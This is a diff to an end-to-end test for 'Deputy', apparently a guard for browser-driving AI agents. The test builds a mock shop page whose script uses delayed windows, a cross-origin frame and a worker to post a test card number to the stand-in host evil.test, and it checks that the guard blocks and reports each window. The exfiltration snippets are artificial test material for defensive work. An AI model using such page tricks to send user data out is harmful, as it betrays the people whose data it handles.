@@ -4,7 +4,7 @@ import type { PendingApproval, TaskRecord } from '../../shared/protocol';
 import type { AttackSites } from '../fixtures/attacks/attack-sites';
 import type { RecordedRequest } from '../fixtures/fake-provider/fake-provider-server';
 import { useAttackWorld } from './support/attack-world';
-import { currentView } from '../fixtures/fake-provider/prompt-view';
+import { currentView, messagesOf, textOf } from '../fixtures/fake-provider/prompt-view';
 import { call, refIn } from './support/snapshot-refs';
 import { uiCall } from './support/ui-call';
 import { waitUntil } from './support/wait-until';
@@ -44,9 +44,14 @@ function shopPage(sites: AttackSites): string {
     const frame = document.getElementById('ad');
     // The frame of another site loads on its own time (slowly on a busy machine): cells for it wait until it has loaded
     // and listens, as a real page's script would wait for its partner frame, so none is posted into a frame not there yet.
+    // They go to it in ONE message: Chromium loses messages still on their way to a cross-origin frame once that frame
+    // has opened a window (without Deputy too: of four messages posted at once, the frame got only the first one or two
+    // in 6 of 12 runs of plain Chromium on a busy machine, and all of one message in 12 of 12), and the frame's
+    // later cells then never opened their windows at all.
     let frameLoaded = false;
     const forFrame = [];
-    frame.addEventListener('load', () => { frameLoaded = true; forFrame.splice(0).forEach((cell) => frame.contentWindow.postMessage(cell, '*')); });
+    const toFrame = (batch) => batch.length > 0 && frame.contentWindow.postMessage(batch, '*');
+    frame.addEventListener('load', () => { frameLoaded = true; toFrame(forFrame.splice(0)); });
     const worker = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => setTimeout(() => postMessage(e.data), e.data.delay)"], { type: 'text/javascript' })));
     worker.onmessage = (e) => window.open(e.data.url);
     // Not named open: a global function of that name would be window.open itself.
@@ -61,11 +66,15 @@ function shopPage(sites: AttackSites): string {
           const field = document.createElement('input'); field.name = 'card'; field.value = '4111111111111111'; form.append(field);
           document.body.append(form); form.submit();
         }, cell.delay);
-        case 'frame': return frameLoaded ? frame.contentWindow.postMessage(cell, '*') : forFrame.push(cell);
+        case 'frame': return forFrame.push(cell);
         case 'worker': return worker.postMessage(cell);
       }
     }
-    document.getElementById('go').addEventListener('click', () => { cells.forEach(openCell); document.getElementById('s').textContent = 'Offers on their way'; });
+    document.getElementById('go').addEventListener('click', () => {
+      cells.forEach(openCell);
+      if (frameLoaded) toFrame(forFrame.splice(0));
+      document.getElementById('s').textContent = 'Offers on their way';
+    });
   `;
   return page(
     'Offers',
@@ -73,16 +82,21 @@ function shopPage(sites: AttackSites): string {
   );
 }
 
-// The frame of another site opens its cells' windows itself, on the page's word. It shows no words: words from it
-// would make the click ask (frames cannot borrow the page's authority), and this file is about the windows.
-const FRAME = page('Partner', `<script>onmessage = (e) => setTimeout(() => window.open(e.data.url), e.data.delay);</script>`);
+// The frame of another site opens its cells' windows itself, on the page's word (its cells, in one message; other
+// messages, such as the key Deputy's own frame reader posts into frames, are not the page's word). It shows no words:
+// words from it would make the click ask (frames cannot borrow the page's authority), and this file is about the windows.
+const FRAME = page('Partner', `<script>onmessage = (e) => Array.isArray(e.data) && e.data.forEach((cell) => setTimeout(() => window.open(cell.url), cell.delay));</script>`);
 
 const FINISHED = new Set(['completed', 'failed', 'stopped', 'handed_to_user']);
 
+/** Whether the model was told of a cell's window to the attacker: on an approval's outcome, or as a late block. */
+const toldOf = (request: RecordedRequest, cell: Cell): boolean => messagesOf(request).some((m) => textOf(m.content).includes(`/late/collect/${cell.id}`));
+
 /**
  * The model clicks the button once (again only if the click did not take: a page still loading), then waits while the
- * windows open, until every window to the task's own site has landed and the longest delay has passed (a partner frame
- * loads late on a busy machine, and its windows only then start their delay), then ends.
+ * windows open, until every window to the task's own site has landed, the longest delay has passed (a partner frame
+ * loads late on a busy machine, and its windows only then start their delay) and it was told of every window to the
+ * attacker's site (none is blocked without a word), then ends.
  */
 function script(sites: AttackSites): Array<(request: RecordedRequest) => ReturnType<typeof call>> {
   let clickedAt: number | undefined;
@@ -92,7 +106,8 @@ function script(sites: AttackSites): Array<(request: RecordedRequest) => ReturnT
     if (ended) return call('done', { success: true, summary: 'Opened the offers.' });
     if (currentView(request).includes('Offers on their way')) {
       clickedAt ??= Date.now();
-      if (landed() && Date.now() - clickedAt > Math.max(...DELAYS) + 1500) {
+      const told = CELLS.filter((c) => c.destination === 'unapproved').every((cell) => toldOf(request, cell));
+      if (landed() && told && Date.now() - clickedAt > Math.max(...DELAYS) + 1500) {
         ended = true;
         return call('done', { success: true, summary: 'Opened the offers.' });
       }
@@ -171,6 +186,21 @@ describe('windows the page opens late are the task’s, for its whole life', () 
       }
     });
   }
+
+  it('every window to the attacker that no approval asked about was told: a line in the task steps, and the model read it', () => {
+    const requests = world.fake.requests;
+    const last = requests.at(-1);
+    expect(last).toBeDefined();
+    const told = CELLS.filter((c) => c.destination === 'unapproved' && !approvals.some((a) => a.reason.includes(`/late/collect/${c.id}`)));
+    // Only one window can be asked about per action: the others are the ones told late, and there are some.
+    expect(told.length).toBeGreaterThan(0);
+    for (const cell of told) {
+      const note = (record.notes ?? []).find((n) => n.text.includes(`/late/collect/${cell.id} `));
+      expect(note?.text, cell.id).toMatch(/^The page tried to open a window( posting a form)? with data to http:\/\/evil\.test:\d+\/late\/collect\/\S+ \(http:\/\/evil\.test:\d+, not an approved site\) in tab \d+; Deputy's egress guard blocked it and nothing was sent\.$/);
+      expect(note?.text).not.toContain('4111');
+      expect(toldOf(last as RecordedRequest, cell), cell.id).toBe(true);
+    }
+  });
 
   it('nothing at all reached the attacker', () => {
     expect(world.sites.evil.log).toEqual([]);
